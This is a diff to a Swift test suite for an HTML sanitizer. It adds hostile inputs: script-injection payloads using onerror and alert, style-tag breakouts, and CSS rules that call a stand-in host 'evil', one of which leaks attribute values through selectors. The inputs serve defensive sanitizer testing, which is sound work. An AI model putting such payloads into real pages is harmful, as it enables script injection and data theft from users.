@@ -1,4 +1,5 @@
 import HTMLSanitizer
+import TestSupport
 import Testing
 
 @Suite("Attacks")
@@ -63,6 +64,15 @@ struct AttackTests {
         "<a href=\"https://x\" style=\"display:block;margin:-500px\">x</a>",
         "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
         "<a href=\"https://e.x/\u{2028}onclick\">x", "<image src=x onerror=alert(1)>", "<img src=cid:unknown>",
+        "<style>p{color:red}</style ><img src=x onerror=alert(1)>", "<style><!--</style><script>alert(1)</script>-->",
+        "<style>a{x:'</style><img src=x onerror=alert(1)>'}</style>", "<svg><style><img src=x onerror=alert(1)>",
+        "<style>*{position:fixed;inset:0}\\3c/style\\3e{}</style>", "<style>@font-face{font-family:x;src:url(//evil)}",
+        "<style>p{background:url(//evil/a)} @media screen{p{background:\\75rl('http://evil/b')}}</style><p>x",
+        "<style>a[href^='h']{background:url(//evil/h)} :has(a){color:red} p::after{content:url(//evil)}</style>",
+        "<style>body+*,html~*,*:root~p{display:none}}}}} x{color:red}</style>",
+        "<style>@media x{@media y{@media z{@media w{p{color:red}}}}}</style>", "<style>p{color:red;p{x:y}}@x{</style>",
+        "<style>p{color:expression(alert(1));-moz-binding:url(//evil);behavior:url(x)}</style>",
+        "<body class=x id=y style='background:url(//evil/a);position:fixed'><style>body{background:url(//evil)}",
         "<map name=m><area href=javascript:alert(1)></map><img usemap=#m>", "<dialog open>x</dialog>",
     ]
 
@@ -71,13 +81,13 @@ struct AttackTests {
         let sanitizer = HTMLSanitizer { $0 == "x" ? "/inline/x" : nil }
         let result = sanitizer.sanitize(html)
         #expect(!result.isSimplified)
-        #expect(Reparse(result.html).violations() == [], "\(result.html)")
+        #expect(Reparse(result.fragment).violations() == [], "\(result.fragment)")
         // A second pass finds nothing more to take away.
         let again = sanitizer.sanitize(result.html).html
         #expect(Reparse(again).violations() == [])
 
         let allowing = HTMLSanitizer(remoteImages: .allowed) { _ in "/inline/x" }.sanitize(html)
-        #expect(Reparse(allowing.html).violations(allowsRemote: true) == [], "\(allowing.html)")
+        #expect(Reparse(allowing.fragment).violations(allowsRemote: true) == [], "\(allowing.fragment)")
         #expect(Reparse(HTMLSanitizer.plainToHTML(html)).violations() == [])
     }
 
